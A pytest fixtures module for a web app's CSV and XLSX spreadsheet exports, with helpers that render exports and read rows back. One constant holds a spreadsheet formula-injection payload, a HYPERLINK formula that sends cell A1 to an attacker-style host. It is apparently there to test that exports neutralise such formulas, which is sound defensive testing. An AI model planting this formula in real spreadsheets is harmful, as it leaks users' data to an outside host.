"""Fixtures of the spreadsheet exports: an open campaign, applications stored in any state, and the file read back."""

import csv
import io

import pytest
from openpyxl import load_workbook

from documents.exports import exporter_for
from documents.exports.tables import CSV, XLSX
from nominations.domain.campaigns import open_campaign

from ...nominations.factories import CampaignFactory

BOM = "\ufeff".encode()
# The text a spreadsheet program would run as a formula, were it not neutralised.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.fixture
def campaign(admin_user):
    return open_campaign(admin_user, CampaignFactory(ready=True))


def export(kind, user, params):
    """Clean ``params`` for ``user`` and render the file, as the Celery task does."""
    exporter = exporter_for(kind)
    cleaned = exporter.clean(user, dict(params))
    return exporter.render(user, cleaned, lambda *args: None)


def workbook(rendered):
    assert rendered.content_type == XLSX and rendered.name.endswith(".xlsx")
    return load_workbook(io.BytesIO(rendered.content))


def table(rendered, sheet=0):
    """The rows of one sheet (the header first) as values."""
    book = workbook(rendered)
    return [list(row) for row in book.worksheets[sheet].iter_rows(values_only=True)]


def csv_rows(rendered):
    assert rendered.content_type == CSV and rendered.name.endswith(".csv")
    assert rendered.content.startswith(BOM)
    return list(csv.reader(io.StringIO(rendered.content[len(BOM) :].decode("utf-8"))))


def column(rows, header):
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]
